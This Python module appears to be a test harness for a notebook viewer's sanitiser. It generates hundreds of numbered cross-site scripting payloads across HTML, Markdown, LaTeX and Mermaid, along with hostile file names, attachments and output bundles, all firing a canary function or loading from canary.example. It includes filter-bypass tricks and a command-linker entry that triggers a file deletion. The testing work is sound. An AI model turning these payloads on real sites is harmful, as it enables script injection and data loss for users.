"""Texts that would run script or load something in the browser of whoever looks: a grammar, not a list.

Each payload has a number. Its script calls `ran(number)`, and what it loads comes from `HOST`, with the number in the
path. So one page can hold hundreds of them, and the page says which of them worked.
"""

from itertools import count

HOST = "canary.example"
EVENTS = [  # elements that run a handler as soon as they are shown, or when they are touched
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("details open", "ontoggle"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("input autofocus", "onfocus"),
    ("body", "onload"),
    ("iframe", "onload"),
    ("object data=x", "onerror"),
    ("marquee", "onstart"),
    ("style", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("embed src=x", "onerror"),
    ("a href=x", "onmouseover"),
    ("b style=animation-name:x", "onanimationstart"),
    ("math", "onclick"),
    ("form", "onsubmit"),
    ("x-y contenteditable autofocus", "onfocus"),
]
QUOTES = [  # ways to write a tag with a handler
    '<{tag} {event}="{script}">',
    "<{tag} {event}='{script}'>",
    "<{tag} {event}={script}>",
    "<{tag}/{event}={script}//",
    '<{tag} title=">" {event}="{script}">',
    "<{tag} title='{long}' {event}='{script}'>",
    "<{tag}\n{event}\n=\n'{script}'\n>",
    "<{tag} {EVENT}='{script}'>",
    "</p><{tag} a={event}= {event}='{script}'>",
    '<{tag} x="`" {event}="{script}" y="`">',
    "<{tag}\t{event}\t=\t{entity}>",
    "<!--><{tag} {event}='{script}'>-->",
]
WHOLE = [  # active by themselves
    "<script>{script}</script>",
    "<SCRIPT/x>{script}</SCRIPT>",
    "<script src=//{host}/{n}></script>",
    "<iframe srcdoc='<script>parent.{script}</script>'></iframe>",
    '<iframe src="javascript:parent.{script}"></iframe>',
    "<iframe src=http://{host}/{n}></iframe>",
    "<object data=http://{host}/{n}></object>",
    "<embed src=http://{host}/{n}>",
    "<link rel=stylesheet href=http://{host}/{n}>",
    "<link rel=prefetch href=//{host}/{n}>",
    "<style>@import 'http://{host}/{n}';</style>",
    "<style>*{{background:url(http://{host}/{n})}}</style>",
    "<p style=\"background:url('http://{host}/{n}')\">x</p>",
    "<table background=http://{host}/{n}><tr><td>x</table>",
    "<meta http-equiv=refresh content='0;url=http://{host}/{n}'>",
    "<base href=http://{host}/{n}/><img src=x>",
    "<img src=http://{host}/{n}>",
    "<img srcset='http://{host}/{n} 2x'>",
    "<img src=//{host}/{n}>",
    "<img src=' http:/\\{host}/{n}'>",
    "<picture><source srcset=http://{host}/{n}><img></picture>",
    "<video poster=http://{host}/{n}></video>",
    "<video src=http://{host}/{n} autoplay></video>",
    "<audio src=http://{host}/{n} autoplay></audio>",
    "<input type=image src=http://{host}/{n}>",
    "<svg><image href=http://{host}/{n} /></svg>",
    "<svg><use href=http://{host}/{n}#x /></svg>",
    "<svg><script>{script}</script></svg>",
    "<svg><style>@import 'http://{host}/{n}'</style></svg>",
    "<svg><foreignObject><img src=x onerror='{script}'></foreignObject></svg>",
    "<svg><a href='javascript:{script}'><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href onbegin='{script}' dur=1s></svg>",
    "<svg><set onbegin='{script}' dur=1s></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={script}&gt;'></math>",
    "<math href='javascript:{script}'>x</math>",
    "<math><maction actiontype=statusline xlink:href='javascript:{script}'>x",
    "<math><annotation-xml encoding=text/html><img src=x onerror='{script}'></annotation-xml></math>",
    "<math><mi><style><img src=x onerror='{script}'></style></mi></math>",
    "<noscript><p title='</noscript><img src=x onerror={script}>'></noscript>",
    "<textarea><p title='</textarea><img src=x onerror={script}>'></textarea>",
    "<title><p title='</title><img src=x onerror={script}>'></title>",
    "<xmp><p title='</xmp><img src=x onerror={script}>'></xmp>",
    "<template><img src=x onerror='{script}'></template><img src=x onerror='{script}'>",
    "<form action='javascript:{script}'><button autofocus>x</button></form>",
    "<form><button formaction='javascript:{script}'>x</button></form>",
    "<plaintext><script>{script}</script>",
    "<![CDATA[<img src=x onerror='{script}'>]]>",
    "<?php ><img src=x onerror='{script}'>",
    "<div class='jp-Mermaid'><pre class='mermaid'>graph TD; A[\"<img src=x onerror='{script}'>\"]</pre></div>",
    "<div data-commandlinker-command='filebrowser:delete' id=base_url name=submission_id>x</div>",
    "&lt;img src=x onerror={script}&gt;",
    "&amp;lt;script&amp;gt;{script}&amp;lt;/script&amp;gt;",
    '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="{script}"/>\'>',
]
MARKDOWN = [  # active through a Markdown parser
    "[x](javascript:{script})",
    "[x](<javascript:{script}>)",
    "[x](\tjava\nscript:{script})",
    "[x](&#106;avascript:{script})",
    "[x](JaVaScRiPt&colon;{script})",
    "[x](vbscript:{script})",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x][r{n}]\n\n[r{n}]: javascript:{script}",
    "[r{n}]\n\n[r{n}]: <javascript:{script}> 'x'",
    "<javascript:{script}>",
    "![x](javascript:{script})",
    "![x](http://{host}/{n})",
    "![x](//{host}/{n})",
    "![x][i{n}]\n\n[i{n}]: http://{host}/{n}",
    "[![x](http://{host}/{n})](http://{host}/{n})",
    '![" onerror={script} x="](x)',
    "![x](x \"' onerror={script} y='\")",
    '![x](x"onerror={script}//)',
    "`` `<img src=x onerror={script}> ``",
    "```\n</code></pre><img src=x onerror={script}>\n```",
    "```html onload={script}\nx\n```",
    '```mermaid\ngraph TD; A-->B; click A href "javascript:{script}"\n```',
    '```mermaid\ngraph TD; A["<img src=x onerror={script}>"]\n```',
    "```mermaid\n%%{{init: {{'themeCSS': '@import url(http://{host}/{n})'}}}}%%\ngraph TD; A\n```",
    "~~~mermaid\nsequenceDiagram\nA->>B: <img src=http://{host}/{n}>\n~~~",
    "    <img src=x onerror={script}>",
    "| a |\n|---|\n| <img src=x onerror={script}> |",
    "- <svg onload={script}>\n- x",
    "> <svg onload={script}>",
    "# <img src=x onerror={script}>",
    "<b>\n\n<img src=x onerror={script}>\n\n</b>",
    "<div\n\nonclick={script}>",
    "$\\href{{javascript:{script}}}{{x}}$",
    "$$\\href{{javascript:{script}}}{{x}}$$",
    "\\\\(\\href{{javascript:{script}}}{{x}}\\\\)",
    "$\\require{{html}}\\style{{background:url(http://{host}/{n})}}{{x}}$",
    "$\\bbox[background:url(http://{host}/{n})]{{x}}$",
    "$x<img src=x onerror={script}>y$",
    "$$\n<script>{script}</script>\n$$",
    "\\begin{{a}}<img src=x onerror={script}>\\end{{a}}",
    "$\\text{{</span><img src=x onerror={script}>}}$",
    "$ \\unicode{{<img src=x onerror={script}>}} $",
    "@@0@@ $x$ `@@1@@`",
    "![x](attachment:evil.svg)",
    "![x](attachment:evil.html)",
    "![x](attachment:broken.png)",
    "![x](attachment:%22onerror={script})",
    "![x](attachment:missing.png)",
    "<img src='attachment:evil.svg'>",
    "<img src=\"attachment:' onerror='{script}\">",
    "term\n: <img src=x onerror={script}>",
    "x^[<img src=x onerror={script}>] [^1]\n\n[^1]: <svg onload={script}>",
    'https://{host}/{n}?"onmouseover={script}',
    "www.{host}/<svg onload={script}>",
    '<a@b.c"onmouseover={script}>',
    "\\<img src=x onerror={script}\\>",
    "*<*img src=x onerror={script}>",
    "<img src=x **onerror={script}**>",
]
AROUND = ["{}", "Because the sums are added. {}", "**bold {}", "- item\n- {}", "> {}\n> more", "| a |\n|---|\n| {} |"]


def script(number: int) -> str:
    return f"ran({number})"


def texts() -> list[str]:
    """The payloads for text cells, by number; there are more than two hundred."""
    made: list[str] = []
    numbers = count()
    forms = [quote for _, quote in zip(EVENTS, QUOTES * 2, strict=False)]

    def add(form: str, around: str = "{}", **more: str) -> None:
        number = next(numbers)
        run = script(number)
        entity = "".join(f"&#{ord(sign)};" for sign in run)
        text = form.format(script=run, host=HOST, n=number, entity=entity, long="x" * 700, **more)
        made.append(around.replace("{}", text))

    for index, (tag, event) in enumerate(EVENTS):
        for shift in range(5):  # every element in five of the spellings, so that all pairs come about in some rows
            add(forms[(index * 5 + shift) % len(QUOTES)], AROUND[(index + shift) % len(AROUND)], tag=tag, event=event,
                EVENT=event.upper())  # fmt: skip
    for index, form in enumerate(WHOLE):
        add(form)
        add(form, AROUND[1 + index % (len(AROUND) - 1)])
    for form in MARKDOWN:
        add(form)
    return made


def names(first: int) -> list[str]:
    """Names of files and folders, numbered from `first`: no slash, which no name can hold."""
    forms = [
        "<img src=x onerror=ran({n})>.pdf",
        "<svg onload=ran({n})>.docx",
        "`<img src=x onerror=ran({n})>`.txt",
        "[x](javascript:ran({n})).zip",
        "![x](http:{host}).csv",
        "$\\href{{javascript:ran({n})}}{{x}}$.txt",
        '"><script>ran({n})<script>.dat',
        "' onmouseover='ran({n}).dat",
    ]
    return [form.format(n=first + index, host=HOST) for index, form in enumerate(forms)]


def attachments(number: int) -> dict[str, dict[str, str]]:
    """Attachments of every kind that holds script, and one whose data would leave its attribute."""
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload='ran({number})'><script>ran({number})</script></svg>"
    return {
        "evil.svg": {"image/svg+xml": svg},
        "evil.html": {"text/html": f"<script>ran({number})</script>"},
        "broken.png": {"image/png": f'x"><img src=x onerror=ran({number})>'},
        f'"onerror=ran({number})': {"image/png": "iVBORw0KGgo="},
        f"<img src=x onerror=ran({number})>": {"image/png": "iVBORw0KGgo="},
    }


def outputs(number: int) -> list[dict]:
    """Outputs of every MIME type that a viewer makes into more than text."""
    run = script(number)
    bundle = {
        "text/html": f"<script>{run}</script><img src=x onerror={run}>",
        "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'><script>{run}</script></svg>",
        "application/javascript": run,
        "text/latex": f"$\\href{{javascript:{run}}}{{x}}$ <img src=x onerror={run}>",
        "text/markdown": f"<img src=x onerror={run}> [x](javascript:{run})",
        "image/png": f'x"><img src=x onerror={run}>',
        "application/vnd.jupyter.widget-view+json": {"model_id": "a", "version_major": 2},
        "application/vnd.plotly.v1+json": {"data": [], "layout": {"title": f"<img src=x onerror={run}>"}},
        "application/vnd.vega.v5+json": {"data": {"url": f"http://{HOST}/{number}"}},
        "text/vnd.mermaid": f'graph TD; A["<img src=x onerror={run}>"]',
        "application/geo+json": {"type": f"<img src=x onerror={run}>"},
        "text/plain": f"<img src=x onerror={run}>",
    }
    single = [{kind: data} for kind, data in bundle.items()]
    shown = [
        {"output_type": "display_data", "data": data, "metadata": {"text/html": {"isolated": True}}} for data in single
    ]
    shown.append({"output_type": "execute_result", "execution_count": 1, "data": bundle, "metadata": {}})
    words = f"<img src=x onerror={run}>\x1b[31m\x1b]8;;javascript:{run}\x07x\x1b]8;;\x07"
    shown.append({"output_type": "stream", "name": "stdout", "text": words})
    return [*shown, {"output_type": "error", "ename": words, "evalue": words, "traceback": [words]}]
